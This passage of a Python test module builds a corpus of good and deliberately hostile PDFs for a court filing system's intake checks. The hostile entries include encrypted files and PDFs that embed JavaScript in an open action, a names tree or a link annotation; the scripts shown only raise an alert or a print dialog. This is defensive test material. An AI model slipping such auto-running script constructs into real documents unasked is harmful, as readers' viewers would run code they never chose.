"""A deterministic corpus of good and hostile PDFs for the filing intake checks.

Everything is generated here, without network, from hand-written PDF syntax (and pypdf where
pypdf itself is the realistic producer: encryption, attachments, rewriting). Each entry of
``CORPUS`` names a factory for the bytes, the finding code the intake must answer (``None``: the
file passes) and, for files that parse, the page count. Factories are cached: call them freely.

The "shaped like" entries copy the structure real producers write (pdfTeX's xref streams and
Type1 fonts with /Differences, LibreOffice's subset TrueType fonts with /ToUnicode, Word's tagged
structure tree with Type0 Identity-H fonts, Skia's flate content, PDF/A's XMP and output intent);
they are not byte copies of those producers' files.
"""

from __future__ import annotations

import functools
import hashlib
import io
import random
import re
import struct
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from pypdf import PdfReader, PdfWriter

__all__ = [
    "CORPUS",
    "JS",
    "REAL_WORLD",
    "REAL_WORLD_DIR",
    "SSN_LINE",
    "CorpusItem",
    "PdfBuilder",
    "long_brief",
    "text_1_page",
    "text_10_pages",
    "text_doc",
    "text_pdf",
]


@dataclass(frozen=True)
class CorpusItem:
    make: Callable[[], bytes]
    expected: str | None  # the finding code the intake must report; None: the PDF passes
    pages: int | None = None  # the page count, for files that parse
    note: str = ""

    def __iter__(self) -> Iterator[Any]:
        # Lets callers unpack an item like the (factory, expected) pair it stands for.
        return iter((self.make, self.expected))


# --------------------------------------------------------------------------- builder


def _b(value: bytes | str) -> bytes:
    return value.encode("latin-1") if isinstance(value, str) else value


def pdf_string(text: str) -> bytes:
    """A PDF literal string for Latin-1 text."""
    raw = text.encode("latin-1")
    return b"(" + raw.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)") + b")"


def _raw_stream(data: bytes, extra: bytes) -> bytes:
    return b"<< " + extra + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def _stream(data: bytes, extra: bytes | str = b"", *, flate: bool = False) -> bytes:
    extra = _b(extra)
    if flate:
        data = zlib.compress(data, 9)
        extra = b"/Filter /FlateDecode " + extra
    return _raw_stream(data, extra)


class PdfBuilder:
    """Numbered objects written out with a classic xref table, or an xref stream."""

    def __init__(self, version: str = "1.7") -> None:
        self.version = version
        self._objects: dict[int, bytes] = {}
        self._streams: set[int] = set()
        self._next = 1

    def reserve(self) -> int:
        num = self._next
        self._next += 1
        return num

    def set(self, num: int, body: bytes | str) -> int:
        self._objects[num] = _b(body)
        return num

    def add(self, body: bytes | str) -> int:
        return self.set(self.reserve(), body)

    def set_stream(
        self, num: int, data: bytes, extra: bytes | str = b"", *, flate: bool = False
    ) -> int:
        self._streams.add(num)
        return self.set(num, _stream(data, extra, flate=flate))

    def add_stream(self, data: bytes, extra: bytes | str = b"", *, flate: bool = False) -> int:
        return self.set_stream(self.reserve(), data, extra, flate=flate)

    def _header(self) -> bytearray:
        return bytearray(b"%PDF-" + self.version.encode() + b"\n%\xe2\xe3\xcf\xd3\n")

    @staticmethod
    def _trailer_entries(root: int, info: int | None, id_seed: str, extra: bytes) -> bytes:
        digest = hashlib.md5(id_seed.encode(), usedforsecurity=False).hexdigest().encode()
        out = b"/Root %d 0 R " % root
        if info is not None:
            out += b"/Info %d 0 R " % info
        return out + b"/ID [<" + digest + b"> <" + digest + b">] " + extra

    def build(
        self,
        *,
        root: int,
        info: int | None = None,
        id_seed: str = "openecf",
        trailer_extra: bytes = b"",
    ) -> bytes:
        out = self._header()
        offsets: dict[int, int] = {}
        for num in sorted(self._objects):
            offsets[num] = len(out)
            out += b"%d 0 obj\n" % num + self._objects[num] + b"\nendobj\n"
        size = max(offsets) + 1
        xref_at = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for num in range(1, size):
            if num in offsets:
                out += b"%010d 00000 n \n" % offsets[num]
            else:
                out += b"0000000000 00001 f \n"
        out += b"trailer\n<< /Size %d " % size
        out += self._trailer_entries(root, info, id_seed, trailer_extra)
        out += b">>\nstartxref\n%d\n" % xref_at + b"%%EOF\n"
        return bytes(out)

    def build_compressed(self, *, root: int, info: int | None = None, id_seed: str = "x") -> bytes:
        """PDF 1.5 style: plain objects in one object stream, offsets in an xref stream."""
        packed = [n for n in sorted(self._objects) if n not in self._streams]
        objstm, xref_num = self._next, self._next + 1
        header, body = [], bytearray()
        for num in packed:
            header.append(b"%d %d" % (num, len(body)))
            body += self._objects[num] + b"\n"
        head = b" ".join(header) + b"\n"
        out = self._header()
        offsets: dict[int, int] = {}
        for num in sorted(self._streams):
            offsets[num] = len(out)
            out += b"%d 0 obj\n" % num + self._objects[num] + b"\nendobj\n"
        offsets[objstm] = len(out)
        extra = b"/Type /ObjStm /N %d /First %d" % (len(packed), len(head))
        out += b"%d 0 obj\n" % objstm + _stream(head + bytes(body), extra, flate=True)
        out += b"\nendobj\n"
        offsets[xref_num] = len(out)
        rows = bytearray(struct.pack(">BIH", 0, 0, 65535))
        for num in range(1, xref_num + 1):
            if num in offsets:
                rows += struct.pack(">BIH", 1, offsets[num], 0)
            elif num in packed:
                rows += struct.pack(">BIH", 2, objstm, packed.index(num))
            else:
                rows += struct.pack(">BIH", 0, 0, 1)
        extra = b"/Type /XRef /Size %d /W [1 4 2] " % (xref_num + 1)
        extra += self._trailer_entries(root, info, id_seed, b"")
        out += b"%d 0 obj\n" % xref_num + _stream(bytes(rows), extra, flate=True)
        out += b"\nendobj\nstartxref\n%d\n" % offsets[xref_num] + b"%%EOF\n"
        return bytes(out)


# --------------------------------------------------------------------------- text documents

HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
MEDIABOX = b"/MediaBox [0 0 612 792]"


def text_content(lines: Sequence[str], font: bytes = b"/F1") -> bytes:
    """A content stream showing each line with a simple font, top to bottom."""
    ops = [b"BT", font + b" 11 Tf", b"14 TL", b"72 740 Td"]
    ops += [pdf_string(line) + b" Tj T*" for line in lines]
    ops.append(b"ET")
    return b"\n".join(ops) + b"\n"


def _info(builder: PdfBuilder, producer: str, creator: str = "", title: str = "") -> int:
    entries = b"/Producer " + pdf_string(producer)
    if creator:
        entries += b" /Creator " + pdf_string(creator)
    if title:
        entries += b" /Title " + pdf_string(title)
    entries += b" /CreationDate (D:20250102030405Z)"
    return builder.add(b"<< " + entries + b" >>")


def _lines_for_page(number: int, total: int, extra: Sequence[str] = ()) -> list[str]:
    return [
        "UNITED STATES COURT OF APPEALS FOR THE NINTH CIRCUIT",
        "Jane Roe, Petitioner, v. Merrick Garland, Attorney General, Respondent.",
        f"PETITION FOR REVIEW - page {number} of {total}",
        "Petitioner respectfully asks the Court to review the decision of the Board.",
        *extra,
        "Filed on 2021-05-01; agency case A012-345-678; call (415) 555-0100.",
    ]


def _page_tree(b: PdfBuilder, tree: int, pages: list[int]) -> None:
    kids = b" ".join(b"%d 0 R" % p for p in pages)
    b.set(tree, b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % len(pages))


def text_doc(
    pages: Sequence[Sequence[str] | bytes],
    *,
    producer: str = "OpenECF test corpus",
    catalog_extra: bytes = b"",
    page_extra: Callable[[int, int], bytes] | None = None,
    builder: PdfBuilder | None = None,
    resources: bytes = b"",
) -> tuple[PdfBuilder, int, int]:
    """A plain text document: one Helvetica (/F1) content stream per page.

    A page given as bytes is its raw content stream. ``page_extra(index, page_obj_num)`` adds
    entries to a page dictionary; ``builder`` may carry objects the extras refer to. Returns the
    builder with the catalog and /Info object numbers, so callers can add objects before building.
    """
    b = builder or PdfBuilder()
    catalog, tree, font = b.reserve(), b.reserve(), b.add(HELVETICA)
    kids = []
    for index, lines in enumerate(pages):
        page = b.reserve()
        data = lines if isinstance(lines, bytes) else text_content(lines)
        content = b.add_stream(data)
        extra = page_extra(index, page) if page_extra else b""
        b.set(
            page,
            b"<< /Type /Page /Parent %d 0 R " % tree
            + MEDIABOX
            + b" /Resources << /Font << /F1 %d 0 R >> " % font
            + resources
            + b">> /Contents %d 0 R " % content
            + extra
            + b">>",
        )
        kids.append(page)
    _page_tree(b, tree, kids)
    b.set(catalog, b"<< /Type /Catalog /Pages %d 0 R " % tree + catalog_extra + b">>")
    return b, catalog, _info(b, producer)


def text_pdf(pages: Sequence[Sequence[str] | bytes], **options: object) -> bytes:
    """``text_doc`` built with a classic xref table."""
    b, catalog, info = text_doc(pages, **options)  # type: ignore[arg-type]
    return b.build(root=catalog, info=info)


@functools.cache
def text_1_page() -> bytes:
    return text_pdf([_lines_for_page(1, 1)])


@functools.cache
def text_10_pages() -> bytes:
    body = [f"Paragraph {n}: the agency erred in its findings of fact." for n in range(1, 30)]
    return text_pdf([_lines_for_page(i, 10, body) for i in range(1, 11)])


# --------------------------------------------------------------------------- producer shapes


def _tounicode(codes: dict[str, int], width: int) -> bytes:
    hex_code = f"{{:0{width * 2}X}}"
    lo, hi = hex_code.format(0), hex_code.format(256**width - 1)
    rows = "\n".join(f"<{hex_code.format(c)}> <{ord(ch):04X}>" for ch, c in codes.items())
    return (
        "/CIDInit /ProcSet findresource begin\n12 dict begin\nbegincmap\n"
        "/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def\n"
        "/CMapName /Adobe-Identity-UCS def\n/CMapType 2 def\n"
        f"1 begincodespacerange\n<{lo}> <{hi}>\nendcodespacerange\n"
        f"{len(codes)} beginbfchar\n{rows}\nendbfchar\n"
        "endcmap\nCMapName currentdict /CMap defineresource pop\nend\nend\n"
    ).encode()


def _subset_codes(pages: Sequence[Sequence[str]]) -> dict[str, int]:
    # Subset fonts number glyphs in order of first use, as PDF writers do.
    codes: dict[str, int] = {}
    for lines in pages:
        for ch in "".join(lines):
            codes.setdefault(ch, len(codes) + 1)
    return codes


def _hex_lines(lines: Sequence[str], codes: dict[str, int], width: int, font: bytes) -> bytes:
    ops = [b"BT", font + b" 11 Tf", b"14 TL", b"72 740 Td"]
    for line in lines:
        glyphs = "".join(f"{codes[ch]:0{width * 2}X}" for ch in line)
        ops.append(b"<" + glyphs.encode() + b"> Tj T*")
    ops.append(b"ET")
    return b"\n".join(ops) + b"\n"


@functools.cache
def pdftex_like() -> bytes:
    """pdfTeX 1.40 with hyperref: PDF 1.5 object streams, a Type1 font with /Differences."""
    b = PdfBuilder("1.5")
    catalog, tree = b.reserve(), b.reserve()
    chars = [chr(c) for c in range(32, 127)]
    glyph_names = {
        " ": "space", ".": "period", ",": "comma", "-": "hyphen", ":": "colon", ";": "semicolon",
        "(": "parenleft", ")": "parenright", "'": "quoteright", "0": "zero", "1": "one",
        "2": "two", "3": "three", "4": "four", "5": "five", "6": "six", "7": "seven",
        "8": "eight", "9": "nine",
    }  # fmt: skip
    diffs = " ".join("/" + glyph_names.get(ch, ch if ch.isalpha() else "question") for ch in chars)
    fontfile = b.add_stream(
        b"%!PS-AdobeFont-1.0: CMR10 003.002\n/FontName /XKJQYB+CMR10 def\n" + bytes(64),
        b"/Length1 114 /Length2 0 /Length3 0",
        flate=True,
    )
    descriptor = b.add(
        b"<< /Type /FontDescriptor /FontName /XKJQYB+CMR10 /Flags 4 /FontBBox [-40 -250 1009 750]"
        b" /Ascent 694 /CapHeight 683 /Descent -194 /ItalicAngle 0 /StemV 69 /XHeight 431"
        b" /FontFile %d 0 R >>" % fontfile
    )
    encoding = b.add(b"<< /Type /Encoding /Differences [32 " + diffs.encode() + b"] >>")
    font = b.add(
        b"<< /Type /Font /Subtype /Type1 /BaseFont /XKJQYB+CMR10 /FirstChar 32 /LastChar 126"
        b" /Widths [" + b" ".join(b"500" for _ in chars) + b"]"
        b" /FontDescriptor %d 0 R /Encoding %d 0 R >>" % (descriptor, encoding)
    )
    pages = []
    for n in range(1, 4):
        page = b.reserve()
        content = b.add_stream(text_content(_lines_for_page(n, 3), b"/F8"), flate=True)
        link = b.add(
            b"<< /Type /Annot /Subtype /Link /Border [0 0 1] /H /I /C [0 1 1]"
            b" /Rect [71 700 300 712] /A << /S /URI /URI (https://www.ca9.uscourts.gov/) >> >>"
        )
        b.set(
            page,
            b"<< /Type /Page /Parent %d 0 R " % tree
            + MEDIABOX
            + b" /Resources << /Font << /F8 %d 0 R >> /ProcSet [/PDF /Text] >>" % font
            + b" /Contents %d 0 R /Annots [%d 0 R] >>" % (content, link),
        )
        pages.append(page)
    _page_tree(b, tree, pages)
    outline, item = b.reserve(), b.reserve()
    b.set(
        item,
        b"<< /Title (Introduction) /Parent %d 0 R /A << /S /GoTo /D (section.1) >> >>" % outline,
    )
    b.set(outline, b"<< /Type /Outlines /First %d 0 R /Last %d 0 R /Count 1 >>" % (item, item))
    dests = b.add(b"<< /Names [(section.1) [%d 0 R /XYZ 72 740 null]] >>" % pages[0])
    # hyperref's /OpenAction is a plain destination, not an action: it must not be refused.
    b.set(
        catalog,
        b"<< /Type /Catalog /Pages %d 0 R /Outlines %d 0 R /Names << /Dests %d 0 R >>"
        b" /PageMode /UseOutlines /OpenAction [%d 0 R /Fit] >>" % (tree, outline, dests, pages[0]),
    )
    info = b.add(
        b"<< /Producer (pdfTeX-1.40.25) /Creator (LaTeX with hyperref) /Author ()"
        b" /CreationDate (D:20250102030405Z) /ModDate (D:20250102030405Z) /Trapped /False"
        b" /PTEX.Fullbanner (This is pdfTeX, Version 3.141592653-2.6-1.40.25 (TeX Live 2023)"
        b" kpathsea version 6.3.5) >>"
    )
    return b.build_compressed(root=catalog, info=info, id_seed="pdftex")


@functools.cache
def libreoffice_like() -> bytes:
    """LibreOffice Writer: a subset TrueType font with /ToUnicode; xref and object streams."""
    pages_lines = [_lines_for_page(n, 2) for n in (1, 2)]
    codes = _subset_codes(pages_lines)
    b = PdfBuilder("1.6")
    catalog, tree = b.reserve(), b.reserve()
    fontfile = b.add_stream(b"\x00\x01\x00\x00" + bytes(252), b"/Length1 256", flate=True)
    descriptor = b.add(
        b"<< /Type /FontDescriptor /FontName /BAAAAA+LiberationSerif /Flags 6"
        b" /FontBBox [-543 -303 1278 982] /ItalicAngle 0 /Ascent 891 /Descent -216"
        b" /CapHeight 981 /StemV 80 /FontFile2 %d 0 R >>" % fontfile
    )
    tounicode = b.add_stream(_tounicode(codes, 1), flate=True)
    font = b.add(
        b"<< /Type /Font /Subtype /TrueType /BaseFont /BAAAAA+LiberationSerif /FirstChar 0"
        b" /LastChar %d /Widths ["
        % len(codes)
        + b" ".join(b"500" for _ in range(len(codes) + 1))
        + b"] /FontDescriptor %d 0 R /ToUnicode %d 0 R >>" % (descriptor, tounicode)
    )
    # Both pages share one resource dictionary, as LibreOffice writes it.
    resources = b.add(b"<< /Font << /F1 %d 0 R >> /ProcSet [/PDF /Text] >>" % font)
    pages = []
    for lines in pages_lines:
        content = b.add_stream(_hex_lines(lines, codes, 1, b"/F1"), flate=True)
        pages.append(
            b.add(
                b"<< /Type /Page /Parent %d 0 R /Resources %d 0 R " % (tree, resources)
                + MEDIABOX
                + b" /Group << /S /Transparency /CS /DeviceRGB /I true >> /Contents %d 0 R >>"
                % content
            )
        )
    _page_tree(b, tree, pages)
    b.set(
        catalog,
        b"<< /Type /Catalog /Pages %d 0 R /OpenAction [%d 0 R /XYZ null null 0]"
        b" /Lang (en-US) >>" % (tree, pages[0]),
    )
    info = b.add(
        b"<< /Creator (Writer) /Producer (LibreOffice 7.6) /CreationDate (D:20250102030405Z) >>"
    )
    return b.build_compressed(root=catalog, info=info, id_seed="libreoffice")


def _type0_font(b: PdfBuilder, codes: dict[str, int], name: bytes) -> int:
    descriptor = b.add(
        b"<< /Type /FontDescriptor /FontName /" + name + b" /Flags 32"
        b" /FontBBox [-503 -307 1240 1026] /ItalicAngle 0 /Ascent 750 /Descent -250"
        b" /CapHeight 632 /StemV 80 >>"
    )
    widths = b" ".join(b"507" for _ in codes)
    cid = b.add(
        b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /" + name + b" /CIDSystemInfo"
        b" << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> /FontDescriptor %d 0 R"
        b" /DW 1000 /W [1 [" % descriptor + widths + b"]] /CIDToGIDMap /Identity >>"
    )
    tounicode = b.add_stream(_tounicode(codes, 2), flate=True)
    return b.add(
        b"<< /Type /Font /Subtype /Type0 /BaseFont /" + name + b" /Encoding /Identity-H"
        b" /DescendantFonts [%d 0 R] /ToUnicode %d 0 R >>" % (cid, tounicode)
    )


@functools.cache
def word_like() -> bytes:
    """Microsoft Word "Save as PDF": tagged (structure tree, /MarkInfo), Type0 Identity-H."""
    pages_lines = [_lines_for_page(n, 2) for n in (1, 2)]
    codes = _subset_codes(pages_lines)
    b = PdfBuilder("1.7")
    catalog, tree, struct_root, document = b.reserve(), b.reserve(), b.reserve(), b.reserve()
    font = _type0_font(b, codes, b"BCDEEE+Calibri")
    pages, paragraphs = [], []
    for index, lines in enumerate(pages_lines):
        page = b.reserve()
        body = _hex_lines(lines, codes, 2, b"/F1")
        content = b"/P <</MCID 0>> BDC\n" + body + b"EMC\n"
        stream = b.add_stream(content, flate=True)
        b.set(
            page,
            b"<< /Type /Page /Parent %d 0 R "
            % tree
            + b"/Resources << /Font << /F1 %d 0 R >> /ExtGState << /GS7 << /Type /ExtGState"
            b" /BM /Normal /ca 1 >> >> /ProcSet [/PDF /Text /ImageB /ImageC /ImageI] >> "
            % font
            + MEDIABOX
            + b" /Contents %d 0 R /Group << /Type /Group /S /Transparency /CS /DeviceRGB >>"
            b" /Tabs /S /StructParents %d >>" % (stream, index),
        )
        pages.append(page)
        paragraphs.append(
            b.add(b"<< /Type /StructElem /S /P /P %d 0 R /Pg %d 0 R /K [0] >>" % (document, page))
        )
    _page_tree(b, tree, pages)
    kids = b" ".join(b"%d 0 R" % p for p in paragraphs)
    element = b"<< /Type /StructElem /S /Document /P %d 0 R /K [" % struct_root
    b.set(document, element + kids + b"] >>")
    nums = b" ".join(b"%d [%d 0 R]" % (i, p) for i, p in enumerate(paragraphs))
    parent_tree = b.add(b"<< /Nums [" + nums + b"] >>")
    b.set(
        struct_root,
        b"<< /Type /StructTreeRoot /RoleMap << /Footnote /Note /Endnote /Note >>"
        b" /ParentTree %d 0 R /K [%d 0 R] /ParentTreeNextKey %d >>"
        % (parent_tree, document, len(pages)),
    )
    b.set(
        catalog,
        b"<< /Type /Catalog /Pages %d 0 R /Lang (en-US) /StructTreeRoot %d 0 R"
        b" /MarkInfo << /Marked true >> /ViewerPreferences << /DisplayDocTitle true >> >>"
        % (tree, struct_root),
    )
    info = b.add(
        b"<< /Author (Jane Roe) /Creator (\xfe\xff\x00M\x00i\x00c\x00r\x00o\x00s\x00o\x00f\x00t)"
        b" /CreationDate (D:20250102030405-08'00') /Producer (Microsoft\xae Word for Microsoft 365)"
        b" /Title (Petition for Review) >>"
    )
    return b.build(root=catalog, info=info, id_seed="word")


@functools.cache
def google_docs_like() -> bytes:
    """Google Docs download: Skia/PDF, PDF 1.4, flate content, Type0 fonts."""
    pages_lines = [_lines_for_page(n, 2) for n in (1, 2)]
    codes = _subset_codes(pages_lines)
    b = PdfBuilder("1.4")
    catalog, tree = b.reserve(), b.reserve()
    font = _type0_font(b, codes, b"AAAAAA+Arial")
    pages = []
    for lines in pages_lines:
        body = b"1 0 0 -1 0 792 cm\nq\n1 0 0 -1 0 792 cm\n" + _hex_lines(lines, codes, 2, b"/F4")
        content = b.add_stream(body + b"Q\n", flate=True)
        pages.append(
            b.add(
                b"<< /Type /Page /Parent %d 0 R /Resources << /ProcSet [/PDF /Text /ImageB"
                b" /ImageC /ImageI] /Font << /F4 %d 0 R >> >> "
                % (tree, font)
                + MEDIABOX
                + b" /Contents %d 0 R /StructParents 0 >>" % content
            )
        )
    _page_tree(b, tree, pages)
    b.set(catalog, b"<< /Type /Catalog /Pages %d 0 R >>" % tree)
    info = b.add(b"<< /Title (Untitled document) /Producer (Skia/PDF m122 Google Docs Renderer) >>")
    return b.build(root=catalog, info=info, id_seed="gdocs")


XMP = b"""<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?>
<x:xmpmeta xmlns:x="adobe:ns:meta/">
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
<rdf:Description rdf:about="" xmlns:pdfaid="http://www.aiim.org/pdfa/ns/id/">
<pdfaid:part>2</pdfaid:part><pdfaid:conformance>B</pdfaid:conformance></rdf:Description>
<rdf:Description rdf:about="" xmlns:pdf="http://ns.adobe.com/pdf/1.3/">
<pdf:Producer>OpenECF test corpus</pdf:Producer></rdf:Description>
<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">
<dc:title><rdf:Alt><rdf:li xml:lang="x-default">Opening Brief</rdf:li></rdf:Alt></dc:title>
</rdf:Description>
</rdf:RDF>
</x:xmpmeta>
<?xpacket end="w"?>"""


@functools.cache
def pdfa_like() -> bytes:
    """PDF/A-2b: XMP metadata with pdfaid, an sRGB output intent, an /ID."""
    b = PdfBuilder("1.7")
    metadata = b.add_stream(XMP, "/Type /Metadata /Subtype /XML")
    icc_header = struct.pack(">I", 3144) + b"lcms" + b"\x02\x10\x00\x00mntrRGB XYZ " + bytes(104)
    icc = b.add_stream(icc_header + bytes(64), "/N 3 /Alternate /DeviceRGB", flate=True)
    intent = (
        b"/OutputIntents [<< /Type /OutputIntent /S /GTS_PDFA1 /OutputConditionIdentifier"
        b" (sRGB IEC61966-2.1) /Info (sRGB IEC61966-2.1) /DestOutputProfile %d 0 R >>]" % icc
    )
    catalog_extra = b"/Metadata %d 0 R " % metadata + intent + b" "
    return text_pdf(
        [_lines_for_page(1, 1)], builder=b, catalog_extra=catalog_extra, producer="PDF/A test"
    )


@functools.cache
def pypdf_rewritten() -> bytes:
    """A text PDF read and written again by pypdf (many tools in the wild use it)."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_10_pages())))
    writer.compress_identical_objects()
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@functools.cache
def incremental_update() -> bytes:
    """A text PDF edited in place: an appended update section with /Prev."""
    base = text_1_page()
    prev = int(re.findall(rb"startxref\s+(\d+)", base)[-1])
    size = int(re.findall(rb"/Size (\d+)", base)[-1])
    root = int(re.findall(rb"/Root (\d+) 0 R", base)[-1])
    out = bytearray(base)
    offset = len(out)
    out += b"%d 0 obj\n<< /Producer (Adobe Acrobat Pro 24) /ModDate (D:20250203040506Z) >>" % size
    out += b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (size, offset)
    out += b"trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R /Prev %d >>\n" % (
        size + 1,
        root,
        size,
        prev,
    )
    out += b"startxref\n%d\n" % xref_at + b"%%EOF\n"
    return bytes(out)


@functools.cache
def acroform_fillable() -> bytes:
    """A fillable form (text field, checkbox, reset button) without JavaScript or submission."""
    b = PdfBuilder()
    helv = b.add(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    form = b.reserve()
    fields: list[int] = []
    widgets = [
        b"/FT /Tx /T (case_number) /V (21-70123) /Rect [300 600 500 620] /DA (/Helv 10 Tf 0 g)",
        b"/FT /Btn /T (certify) /V /Off /AS /Off /Rect [300 570 312 582]",
        b"/FT /Btn /Ff 65536 /T (reset) /Rect [400 540 480 560] /A << /S /ResetForm >>",
    ]

    def page_extra(index: int, page: int) -> bytes:
        for entries in widgets:
            widget = b"<< /Type /Annot /Subtype /Widget /F 4 /P %d 0 R " % page + entries + b" >>"
            fields.append(b.add(widget))
        return b"/Annots [" + b" ".join(b"%d 0 R" % f for f in fields) + b"] "

    _, catalog, info = text_doc(
        [_lines_for_page(1, 1)],
        builder=b,
        page_extra=page_extra,
        catalog_extra=b"/AcroForm %d 0 R " % form,
    )
    b.set(
        form,
        b"<< /Fields [" + b" ".join(b"%d 0 R" % f for f in fields) + b"] /NeedAppearances true"
        b" /DA (/Helv 0 Tf 0 g) /DR << /Font << /Helv %d 0 R >> >> >>" % helv,
    )
    return b.build(root=catalog, info=info)


@functools.cache
def blank_separator_page() -> bytes:
    """Text, a blank separator page (with one thin rule), text: blank pages are allowed."""
    rule = b"0.5 w 72 396 m 540 396 l S\n"
    return text_pdf([_lines_for_page(1, 3), rule, _lines_for_page(3, 3)])


# --------------------------------------------------------------------------- not searchable


def _gray_image(b: PdfBuilder, size: int = 64) -> int:
    pixels = bytes((x * 7 + y * 13) % 256 for y in range(size) for x in range(size))
    return b.add_stream(
        pixels,
        b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray"
        b" /BitsPerComponent 8" % (size, size),
        flate=True,
    )


def _scan(b: PdfBuilder) -> tuple[bytes, bytes]:
    """A page that only paints an image: the content and the resources it needs."""
    image = _gray_image(b)
    return b"q 612 0 0 792 0 0 cm /Im0 Do Q\n", b"/XObject << /Im0 %d 0 R >> " % image


@functools.cache
def image_only() -> bytes:
    b = PdfBuilder()
    content, resources = _scan(b)
    return text_pdf([content], builder=b, resources=resources, producer="Canon ScanGear")


@functools.cache
def inline_image_only() -> bytes:
    """A scan painted as an inline image (BI ... ID ... EI), with no /Resources needed."""
    data = bytes((i * 37) % 256 for i in range(16 * 16)).hex().encode() + b">"
    content = b"q 612 0 0 792 0 0 cm\nBI /W 16 /H 16 /CS /G /BPC 8 /F /AHx ID " + data
    b = PdfBuilder()
    catalog, tree, page = b.reserve(), b.reserve(), b.reserve()
    stream = b.add_stream(content + b" EI\nQ\n")
    b.set(
        page, b"<< /Type /Page /Parent %d 0 R /Contents %d 0 R " % (tree, stream) + MEDIABOX + b">>"
    )
    _page_tree(b, tree, [page])
    b.set(catalog, b"<< /Type /Catalog /Pages %d 0 R >>" % tree)
    return b.build(root=catalog)


@functools.cache
def scan_in_form_xobject() -> bytes:
    """The image is wrapped in a form XObject, as some scanning tools write it."""
    b = PdfBuilder()
    image = _gray_image(b)
    form = b.add_stream(
        b"q 612 0 0 792 0 0 cm /Im0 Do Q\n",
        b"/Type /XObject /Subtype /Form /BBox [0 0 612 792]"
        b" /Resources << /XObject << /Im0 %d 0 R >> >>" % image,
    )
    return text_pdf([b"/Fm0 Do\n"], builder=b, resources=b"/XObject << /Fm0 %d 0 R >> " % form)


@functools.cache
def mixed_scan_on_page_2() -> bytes:
    b = PdfBuilder()
    content, resources = _scan(b)
    pages: list[Sequence[str] | bytes] = [_lines_for_page(1, 3), content, _lines_for_page(3, 3)]
    return text_pdf(pages, builder=b, resources=resources)


@functools.cache
def text_as_outlines() -> bytes:
    """Text converted to vector outlines: many painted curves and no text layer."""
    ops = [b"0 g"]
    for i in range(400):
        x, y = 72 + (i % 40) * 12, 720 - (i // 40) * 14
        glyph = (x, y, x + 2, y + 9, x + 6, y + 9, x + 8, y, x + 4, y + 2)
        ops.append(b"%d %d m %d %d %d %d %d %d c %d %d l h f" % glyph)
    return text_pdf([b"\n".join(ops) + b"\n"])


# --------------------------------------------------------------------------- encrypted


def _pypdf_encrypted(user_password: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_1_page())))
    writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    data = out.getvalue()
    # pypdf draws the second /ID half at random; copy the first (the key depends only on it)
    # so the bytes are reproducible.
    match = re.search(rb"/ID \[ <([0-9a-f]{32})> <([0-9a-f]{32})> \]", data)
    assert match, "pypdf changed how it writes /ID"
    return data[: match.start(2)] + match.group(1) + data[match.end(2) :]


@functools.cache
def encrypted_empty_user_password() -> bytes:
    return _pypdf_encrypted("")


@functools.cache
def encrypted_with_password() -> bytes:
    return _pypdf_encrypted("correct horse battery staple")


@functools.cache
def encrypted_aes256_declared() -> bytes:
    """An AES-256 (R6) /Encrypt dictionary, hand-written: the intake must not need the key."""
    b = PdfBuilder()
    encrypt = b.add(
        b"<< /Filter /Standard /V 5 /R 6 /Length 256 /P -1028 /O <"
        + b"11" * 48
        + b"> /U <"
        + b"22" * 48
        + b"> /OE <"
        + b"33" * 32
        + b"> /UE <"
        + b"44" * 32
        + b"> /Perms <"
        + b"55" * 16
        + b"> /CF << /StdCF << /CFM /AESV3 /AuthEvent /DocOpen /Length 32 >> >>"
        b" /StmF /StdCF /StrF /StdCF >>"
    )
    b2, catalog, info = text_doc([["ciphertext would be here"]], builder=b)
    return b2.build(root=catalog, info=info, trailer_extra=b"/Encrypt %d 0 R " % encrypt)


# --------------------------------------------------------------------------- active content

JS = b"<< /S /JavaScript /JS (app.alert\\('hello'\\);) >>"


def _with_catalog(extra: bytes, b: PdfBuilder | None = None) -> bytes:
    return text_pdf([_lines_for_page(1, 1)], catalog_extra=extra, builder=b)


def _with_annotation(annotation: bytes, b: PdfBuilder | None = None) -> bytes:
    """Two pages; the annotation is on page 2 (so messages must name the right page)."""

    def page_extra(index: int, page: int) -> bytes:
        return b"/Annots [" + annotation + b"] " if index == 1 else b""

    pages = [_lines_for_page(1, 2), _lines_for_page(2, 2)]
    return text_pdf(pages, builder=b, page_extra=page_extra)


@functools.cache
def js_open_action() -> bytes:
    return _with_catalog(b"/OpenAction " + JS + b" ")


@functools.cache
def js_names_tree() -> bytes:
    b = PdfBuilder()
    script = b.add_stream(b"this.print({bUI: true});", flate=True)
    action = b.add(b"<< /S /JavaScript /JS %d 0 R >>" % script)
    tree = b.add(b"<< /Names [(init) %d 0 R] >>" % action)
    return _with_catalog(b"/Names << /JavaScript %d 0 R >> " % tree, b)


@functools.cache
def js_link_annotation() -> bytes:
    link = b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 712] /A " + JS + b" >>"
    return _with_annotation(link)


@functools.cache
def js_form_field_keystroke() -> bytes:
    b = PdfBuilder()
    field = b.reserve()
    catalog_extra = b"/AcroForm << /Fields [%d 0 R] >> " % field

    def page_extra(index: int, page: int) -> bytes:
